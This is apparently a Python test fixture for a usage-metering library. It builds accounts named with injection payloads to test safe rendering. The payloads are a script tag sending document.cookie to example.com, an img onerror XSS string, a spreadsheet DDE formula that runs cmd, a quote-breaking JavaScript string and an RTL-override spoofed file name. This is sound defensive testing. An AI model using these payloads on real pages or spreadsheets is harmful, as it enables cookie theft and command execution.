"""A small world whose names are made to do harm: to pages, pictures, sheets and ledgers."""

from small_world import GIB, meter_of, polls, price, subscription

DAY = "2026-10-01"
NAMES = {
    "evil": "<script>fetch('https://example.com/?'+document.cookie)</script>",
    "</svg><img src=x onerror=alert(1)>": "\u202egnp.\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e9\u05dc\u05d5\u05dd",
    "=cmd|' /C calc'!A0": "W" * 200,
    'quote"back\\slash': '"; alert(1); //\x07\x00\ud83d\ude00\ufffe\nnew line'.encode("utf-16", "surrogatepass").decode("utf-16"),
    "twin-1": "Twins Ltd",
    "twin-2": "Twins Ltd",
}
LOCATION = "<b>ZRH</b>&'\""


def hostile_meter(folder):
    """Open a meter on one day of accounts with such names, each of which bursts and has time that nobody observed."""
    samples = []
    for number, account in enumerate(NAMES, start=1):
        told = {"account": account, "endpoint": LOCATION, "drive": f"@{account}"}
        samples += polls("2026-10-01T00:00:00Z", "2026-10-01T06:00:00Z", {f"-{account}": number * 30 * GIB}, **told)
        samples += polls("2026-10-01T08:00:00Z", "2026-10-02T00:00:00Z", {f"-{account}": number * 20 * GIB}, **told)
    bought = [
        subscription(f"+{i}", 10 * GIB, "2026-09-01", "2026-12-01", account=account, location=LOCATION)
        for i, account in enumerate(NAMES)
    ]
    return meter_of(
        folder,
        samples=samples,
        subscriptions=bought,
        accounts=[{"account": account, "currency": "CHF", "name": name.replace("\x00", "")} for account, name in NAMES.items()],
        prices=[price("0.105", level=0), price("0.28")],
    )
